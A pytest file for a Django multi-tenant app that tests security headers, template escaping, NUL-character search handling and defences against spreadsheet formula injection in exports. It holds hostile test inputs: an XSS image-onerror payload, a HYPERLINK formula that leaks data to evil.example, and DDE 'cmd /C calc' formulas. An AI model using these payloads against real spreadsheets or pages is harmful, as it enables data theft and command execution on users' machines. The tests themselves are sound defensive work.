"""Security headers on every page, and user text that can never become markup, a match-all
search or a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection
from django.template.loader import render_to_string
from django.test import Client as HttpClient
from django_tenants.utils import tenant_context
from openpyxl import load_workbook

from clients.custom_fields import custom_field_save
from clients.models import Client, CustomFieldSection
from tests.factories import ClientFactory

ROOT = Path(__file__).resolve().parents[1]
TEMPLATE_DIRS = ("platform", "tenants", "verticals", "api", "billing", "notifications")


def _templates():
    for folder in TEMPLATE_DIRS:
        yield from (ROOT / folder).glob("**/templates/**/*.html")


def test_the_policy_refuses_inline_script_and_style_and_framing():
    # given the policy in settings
    policy = settings.CONTENT_SECURITY_POLICY
    # then no directive lets inline code or eval in, and nobody may frame a page
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["script-src"] == "'self'"
    assert directives["style-src"] == "'self'"
    assert directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    # forms post to the site or a business's portal (signup lands in the new portal)
    assert directives["form-action"] == f"'self' *.{settings.TENANT_BASE_DOMAIN}:*"


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("localhost", "/"),
        ("localhost", "/signup/"),
        ("localhost", "/console/"),
        ("localhost", "/admin/login/"),
        ("localhost", "/no-such-page/"),
        ("alpha.localhost", "/accounts/login/"),
        ("alpha.localhost", "/no-such-page/"),
        ("nobody.localhost", "/"),
    ],
)
def test_every_page_sends_the_content_security_policy(cast, db, host, path):
    # given anyone, signed in or not
    client = HttpClient(HTTP_HOST=host)
    # when they open a page, found or not, of the public site, a portal or no tenant at all
    response = client.get(path)
    # then it carries the policy
    assert response.status_code in (200, 302, 404)
    expected = (
        settings.CONTENT_SECURITY_POLICY_ADMIN
        if path.startswith("/admin/")
        else settings.CONTENT_SECURITY_POLICY
    )
    assert response.headers["Content-Security-Policy"] == expected


def test_the_admin_s_policy_allows_inline_styles_but_still_no_inline_script():
    # given the admin's policy (django-tenants' admin templates carry inline styles)
    directives = dict(
        part.strip().split(" ", 1) for part in settings.CONTENT_SECURITY_POLICY_ADMIN.split(";")
    )
    # then only styles are relaxed
    assert directives["style-src"] == "'self' 'unsafe-inline'"
    assert directives["script-src"] == "'self'" and directives["frame-ancestors"] == "'none'"


def test_pages_for_a_signed_in_user_are_never_stored(cast, owner_a, db):
    # given a client on file
    zhang = ClientFactory(tenant=cast.tenant_a, name="张三")
    # when the owner opens the dashboard, the file and an export
    pages = [
        owner_a.get("/"),
        owner_a.get(f"/clients/{zhang.pk}/"),
        owner_a.get("/clients/export.csv"),
        owner_a.get("/clients/export.xlsx"),
    ]
    # then no browser or proxy may keep a copy, and the policy is there as well
    for response in pages:
        assert response.status_code == 200
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["Content-Security-Policy"]


def test_client_pages_are_not_stored_even_for_a_signed_out_visitor(cast, db):
    # given nobody signed in
    client = HttpClient(HTTP_HOST=cast.host_a)
    # when they try a client page (sent to the login page)
    response = client.get("/clients/1/")
    # then even the redirect is not kept, while the public landing page may be
    assert response.status_code == 302
    assert response.headers["Cache-Control"] == "no-store"
    assert "no-store" not in HttpClient(HTTP_HOST="localhost").get("/").get("Cache-Control", "")


def test_no_template_carries_inline_script_event_handlers_or_style_attributes():
    # given every template of the product
    inline_script = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
    handler = re.compile(r"\son[a-z]+\s*=", re.I)
    style = re.compile(r"\sstyle\s*=", re.I)
    # then none holds what the policy would refuse
    found = [
        f"{path.relative_to(ROOT)}: {pattern.pattern}"
        for path in _templates()
        for pattern in (inline_script, handler, style)
        if pattern.search(path.read_text())
    ]
    assert found == []


def test_a_tenants_custom_field_help_text_is_escaped(cast, owner_a, db):
    # given a custom field whose help text a tenant user wrote as markup
    with tenant_context(cast.tenant_a):
        section = CustomFieldSection.objects.create(name="习惯", order=1)
        custom_field_save(
            field=None,
            values={
                "section": section,
                "label": "作息",
                "kind": "text",
                "help_text": '<img src=x onerror="alert(1)">早睡',
            },
        )
    # when the new-client form shows the field
    response = owner_a.get("/clients/new/")
    # then the help text is shown as text, not markup
    body = response.content.decode()
    assert response.status_code == 200
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;早睡" in body
    assert '<img src=x onerror="alert(1)">' not in body


def test_django_s_own_password_rules_still_render_as_a_list():
    from accounts.forms import AcceptInvitationForm

    # given the invitation form, whose password help is Django's own (safe) list
    form = AcceptInvitationForm()
    # when the shared field template renders it
    html = render_to_string("portal/_field.html", {"field": form["password1"]})
    # then it is a list, not escaped tags
    assert "<ul><li>" in html and "&lt;ul&gt;" not in html


def test_a_search_with_a_nul_character_searches_its_text_not_everyone(cast, owner_a, db):
    # given two clients
    ClientFactory(tenant=cast.tenant_a, name="张三")
    ClientFactory(tenant=cast.tenant_a, name="李四")
    # when the search box sends a name with a NUL and other control characters in it
    response = owner_a.get("/clients/", {"q": "张三\x00\x1b"})
    # then the name is searched (not dropped, which listed every client)
    body = response.content.decode()
    assert response.status_code == 200
    assert "张三" in body and "李四" not in body
    # and the export of that list holds the one client too
    export = owner_a.get("/clients/export.csv", {"q": "\x00张三"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == ["张三"]


def test_a_nul_in_the_other_search_boxes_is_no_error(cast, owner_a, db):
    # given a client to merge and the operator console
    zhang = ClientFactory(tenant=cast.tenant_a, name="张三")
    ClientFactory(tenant=cast.tenant_a, name="张三丰")
    # when NUL is sent to the merge search and the console search
    merge = owner_a.get(f"/clients/{zhang.pk}/merge/", {"q": "张三\x00丰"})
    # then the text is searched
    assert merge.status_code == 200
    assert "张三丰" in merge.content.decode()
    from accounts.models import User
    from accounts.services import operator_create

    connection.set_schema_to_public()
    if not User.objects.filter(email="op@example.com").exists():
        operator_create(full_name="Op", email="op@example.com", password=cast.password)
    console = HttpClient(HTTP_HOST="localhost")
    console.force_login(User.objects.get(email="op@example.com"))
    response = console.get("/console/", {"q": "Alpha\x00"})
    assert response.status_code == 200
    assert "Alpha Aesthetics" in response.content.decode()


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "occupation": "+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "special_notes": "-2+3+cmd|' /C calc'!A0",
}


def _export_rows(owner, fmt: str) -> list[list]:
    response = owner.get(f"/clients/export.{fmt}")
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def test_exported_cells_that_look_like_formulas_stay_text(cast, owner_a, db):
    # given a client whose fields, and a custom field whose label, begin like formulas
    ClientFactory(tenant=cast.tenant_a, **FORMULAS)
    with tenant_context(cast.tenant_a):
        section = CustomFieldSection.objects.create(name="其他", order=2)
        custom_field_save(field=None, values={"section": section, "label": "=1+1", "kind": "text"})
        assert Client.objects.filter(name=FORMULAS["name"]).exists()
    # when the list is exported to .csv
    header, row = _export_rows(owner_a, "csv")
    # then each such cell starts with an apostrophe, so no spreadsheet evaluates it
    for value in FORMULAS.values():
        assert "'" + value in row
    assert "'=1+1" in header
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header + row)
    # and in .xlsx every text cell is a string cell, its value as typed, none a formula
    cells = [cell for row in _export_rows(owner_a, "xlsx") for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value: cell.data_type for cell in cells}
    for value in [*FORMULAS.values(), "=1+1"]:
        assert values[value] == "s"
